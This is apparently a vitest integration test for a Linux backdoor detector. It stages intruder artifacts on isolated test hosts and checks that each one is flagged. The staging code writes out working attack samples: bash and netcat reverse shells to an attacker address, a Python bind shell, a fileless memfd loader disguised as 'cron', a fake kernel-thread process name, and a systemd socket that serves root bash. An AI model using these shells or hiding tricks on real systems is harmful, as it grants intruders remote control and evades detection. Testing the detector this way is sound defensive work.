import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';

import { connect, type Host, startHost } from '../../hosts/index.ts';
import { needs } from '../../support/needs.ts';
import { connectionAt, connectionTo, doorCheck, portOf, type PrintedCheck, verdict } from './door-check.ts';

const NETCAT = '/bin/nc.traditional';
/** Puts itself into memory and starts from there, under a harmless name. */
const FROM_MEMORY = `
import os, sys
memory = os.memfd_create('x')
os.write(memory, open('${NETCAT}', 'rb').read())
os.execv(f'/proc/self/fd/{memory}', ['cron', '-l', '-p', sys.argv[1]])
`;
/** A bind shell as intruders write it: its own port listens on. */
const BIND_SHELL = `
import os, socket, subprocess, sys
door = socket.create_server(('0.0.0.0', int(sys.argv[1])))
peer = door.accept()[0]
subprocess.call(['/bin/sh', '-i'], stdin=peer, stdout=peer, stderr=peer)
`;
const ECHO_SOCKET = `[Socket]
ListenStream=4010
Accept=yes
[Install]
WantedBy=sockets.target
`;
const ECHO_SERVICE = `[Service]
ExecStart=/bin/cat
StandardInput=socket
`;
const ROOT_SHELL_SOCKET = ECHO_SOCKET.replace('4010', '4011');
const ROOT_SHELL_SERVICE = ECHO_SERVICE.replace('/bin/cat', '/bin/bash');

describe(
  'what intruders leave behind',
  needs('systemd-host', 'dist', 'package:netcat-traditional', 'package:python3', 'package:openssh-server'),
  () => {
    let victim: Host;
    let attacker: Host;
    let check: PrintedCheck;

    beforeAll(async () => {
      [victim, attacker] = await Promise.all([
        startHost({ name: 'victim', init: 'systemd' }),
        startHost({ name: 'attacker' }),
      ]);
      await connect(
        { host: victim, addresses: ['198.51.100.7/24'] },
        { host: attacker, addresses: ['198.51.100.9/24'] },
      );
      await stage(victim, attacker);
      check = await doorCheck(victim);
    });
    afterAll(async () => {
      await Promise.all([victim.stop(), attacker.stop()]);
    });

    test('a program whose file is gone', () => {
      expect(verdict(portOf(check, 4001))).toEqual([
        'medium',
        'investigate',
        'renamed-program 25',
        'deleted-executable 18',
        'no-package 1',
      ]);
    });

    test('a program that runs from memory', () => {
      expect(verdict(portOf(check, 4002))).toEqual([
        'high',
        'investigate',
        'memfd-executable 50',
        'renamed-program 25',
        'other-name 25',
      ]);
    });

    test('a program in shared memory', () => {
      expect(verdict(portOf(check, 4003))).toEqual([
        'high',
        'investigate',
        'writable-folder 40',
        'renamed-program 25',
        'no-package 1',
      ]);
      expect(portOf(check, 4003)?.findings[0]?.evidence[0]).toMatchObject({ fact: 'executable', value: '/dev/shm/x' });
    });

    test('a program that poses as a kernel thread', () => {
      expect(verdict(portOf(check, 4004))).toEqual([
        'high',
        'investigate',
        'kernel-thread-name 70',
        'renamed-program 25',
        'no-package 1',
      ]);
    });

    test('a netcat that hands out a shell', () => {
      expect(verdict(portOf(check, 4005))).toEqual(['high', 'investigate', 'shell-relay 50']);
    });

    test('a reverse shell by bash', () => {
      expect(verdict(connectionTo(check, 4101))).toEqual(['high', 'investigate', 'streams-on-socket 60']);
    });

    test('a reverse shell by netcat', () => {
      expect(verdict(connectionTo(check, 4102))).toEqual(['high', 'investigate', 'streams-on-socket 50']);
    });

    test('a shell that came in by a port is told at the connection and at the port', () => {
      expect(verdict(connectionAt(check, 4006))).toEqual(['high', 'investigate', 'streams-on-socket 60']);
      expect(verdict(portOf(check, 4006))?.slice(0, 2)).toEqual(['high', 'investigate']);
    });

    test('a root shell as a service of systemd', () => {
      expect(verdict(connectionAt(check, 4011))).toEqual(['medium', 'investigate', 'streams-on-socket 40']);
    });

    test('an ordinary service that systemd starts for each connection is none', () => {
      expect(connectionAt(check, 4010)).toBeUndefined();
      expect(portOf(check, 4010)?.suspicion).toBe('none');
    });

    test('a packaged server whose file was upgraded under it is a hint at most', () => {
      expect(verdict(portOf(check, 4012))).toEqual(['none', 'restrict', 'deleted-executable 5']);
    });

    test('each command shows what it is said to show', async () => {
      const findings = [...check.ports, ...check.connections].flatMap((judged) => judged.findings);
      const evidence = findings.flatMap((finding) => finding.evidence);
      expect(evidence.length).toBeGreaterThan(15);
      for (const { fact, value, check: command } of evidence) {
        const { stdout, stderr } = await victim.run(command);
        expect(oneLine(stdout + stderr), `${fact}: ${command.join(' ')}`).toContain(oneLine(shown(fact, value)));
      }
    });
  },
);

/** ps shows line breaks as blanks. */
function oneLine(text: string): string {
  return text.replaceAll(/\s+/g, ' ').trim();
}

/** What of a fact's value its command prints too. */
function shown(fact: string, value: string): string {
  if (fact === 'streams') return value.replace(/^.*: /, '');
  if (fact === 'executable-in-memory') return `/${value} (deleted)`;
  if (fact === 'port') return `:${value.replace(/\/.*/, '')}`;
  return fact === 'parent' ? value.replace(/ .*/, '') : value;
}

async function stage(victim: Host, attacker: Host): Promise<void> {
  for (const port of ['4101', '4102']) await attacker.spawn([NETCAT, '-l', '-p', port], { input: '' });
  await Promise.all([4101, 4102].map((port) => attacker.listening('tcp', port)));

  await victim.must([
    'sh',
    '-c',
    `mkdir -p /opt/app /dev/shm && cp ${NETCAT} /opt/app/server && cp ${NETCAT} /opt/app/worker && cp ${NETCAT} /dev/shm/x`,
  ]);
  await victim.spawn(['/opt/app/server', '-l', '-p', '4001']);
  await victim.spawn(['python3', '-c', FROM_MEMORY, '4002']);
  await victim.spawn(['/dev/shm/x', '-l', '-p', '4003']);
  await victim.spawn(['bash', '-c', "exec -a '[kworker/0:1]' /opt/app/worker -l -p 4004"]);
  await victim.spawn([NETCAT, '-l', '-p', '4005', '-e', '/bin/sh']);
  await victim.spawn(['python3', '-c', BIND_SHELL, '4006']);
  await victim.spawn(['bash', '-c', 'exec bash -i >& /dev/tcp/198.51.100.9/4101 0>&1']);
  await victim.spawn([NETCAT, '-e', '/bin/sh', '198.51.100.9', '4102']);
  await unit(victim, 'echo', ECHO_SOCKET, ECHO_SERVICE);
  await unit(victim, 'root-shell', ROOT_SHELL_SOCKET, ROOT_SHELL_SERVICE);
  await victim.must(['sh', '-c', 'mkdir -p /run/sshd && ssh-keygen -A']);
  await victim.must(['/usr/sbin/sshd', '-p', '4012']);
  const ports = [4001, 4002, 4003, 4004, 4005, 4006, 4010, 4011, 4012];
  await Promise.all(ports.map((port) => victim.listening('tcp', port)));

  await victim.must(['rm', '/opt/app/server']);
  // As a package manager does it: a new file takes the name of the old one.
  await victim.must(['sh', '-c', 'cp /usr/sbin/sshd /usr/sbin/sshd.new && mv /usr/sbin/sshd.new /usr/sbin/sshd']);
  for (const port of ['4006', '4010', '4011']) {
    await attacker.spawn(['sh', '-c', `sleep 60 | ${NETCAT} 198.51.100.7 ${port}`]);
  }
  const shells = `ss -Htn state established | grep -c -e :4006 -e :4010 -e :4011 -e :4101 -e :4102`;
  await vi.waitFor(
    async () => {
      const { stdout } = await victim.run(['sh', '-c', shells]);
      if (stdout.trim() !== '5') throw new Error(`${stdout.trim()} of 5 connections are there`);
    },
    { timeout: 10_000, interval: 100 },
  );
}

async function unit(host: Host, name: string, socket: string, service: string): Promise<void> {
  await host.write(`/etc/systemd/system/${name}.socket`, socket);
  await host.write(`/etc/systemd/system/${name}@.service`, service);
  await host.must(['systemctl', 'daemon-reload']);
  await host.must(['systemctl', 'start', `${name}.socket`]);
}
